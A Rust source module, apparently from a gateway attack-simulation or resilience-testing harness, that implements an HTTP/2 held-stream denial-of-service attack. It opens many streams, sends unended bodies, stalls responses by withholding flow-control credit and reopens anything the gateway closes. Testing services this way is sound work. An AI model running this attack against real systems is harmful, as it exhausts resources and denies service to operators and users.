//! Streams that an attacker keeps open: when the gateway ends one, it is opened again.

use std::{
    convert::Infallible,
    future::{pending, poll_fn},
    net::SocketAddr,
    sync::Arc,
    time::Duration,
};

use bytes::Bytes;
use h2::{RecvStream, SendStream, client::ResponseFuture};
use http::Request;
use tokio::time::sleep;

use crate::{
    attackers::{Deeds, FROM},
    http2::{Connection, Opener},
};

/// The pause before a stream or a connection is opened again. Floods are other attacks.
const PAUSE: Duration = Duration::from_secs(5);
static PIECE: [u8; 16 * 1024] = [b' '; 16 * 1024];

/// The streams of one connection.
#[derive(Clone, Copy)]
pub struct HeldStreams {
    /// The number of streams.
    pub count: usize,
    /// Builds the request of a stream from its number.
    pub request: fn(SocketAddr, usize) -> Request<()>,
    /// How many bytes of a body to send without ending it; `None`: the request has no body.
    pub unended: Option<usize>,
}

impl HeldStreams {
    /// Opens a connection with all streams, and another one whenever it is closed.
    pub async fn keep_open(self, gateway: SocketAddr, deeds: Arc<Deeds>) {
        loop {
            match Connection::open(FROM, gateway).await {
                Ok(connection) => {
                    let opener = connection.opener();
                    let streams = (0..self.count).map(|number| self.hold(&opener, gateway, number, &deeds));
                    futures::future::join_all(streams).await;
                }
                Err(_) => deeds.note(false),
            }
            sleep(PAUSE).await;
        }
    }

    /// Keeps one stream open until the connection is closed.
    async fn hold(&self, opener: &Opener, gateway: SocketAddr, number: usize, deeds: &Deeds) {
        // Not all at the same time: opening them takes time of the processors that the gateway needs, too.
        let pause = PAUSE + PAUSE * u32::try_from(number).unwrap() / u32::try_from(self.count).unwrap();
        loop {
            let request = (self.request)(gateway, number);
            let Ok((answer, body)) = opener.send(request, self.unended.is_none()).await else { return };
            deeds.note(true);
            let ended = tokio::select! {
                ended = until_ended(answer) => ended,
                never = push(body, self.unended.unwrap_or(0)) => match never {},
            };
            if ended.is_err() {
                return;
            }
            deeds.note(false);
            sleep(pause).await;
        }
    }
}

/// Waits for the end of a response. The flow-control window isn't enlarged, so a long response stalls.
async fn until_ended(answer: ResponseFuture) -> Result<(), h2::Error> {
    let mut body: RecvStream = answer.await?.into_body();
    while let Some(data) = body.data().await {
        data?;
    }
    Ok(())
}

/// Sends `left` bytes of a body as fast as the gateway accepts them, and doesn't end it.
async fn push(mut body: SendStream<Bytes>, mut left: usize) -> Infallible {
    while left > 0 {
        body.reserve_capacity(left.min(PIECE.len()));
        let Some(Ok(capacity)) = poll_fn(|cx| body.poll_capacity(cx)).await else { break };
        let piece = &PIECE[..capacity.min(left).min(PIECE.len())];
        if body.send_data(Bytes::from_static(piece), false).is_err() {
            break;
        }
        left -= piece.len();
    }
    pending().await
}
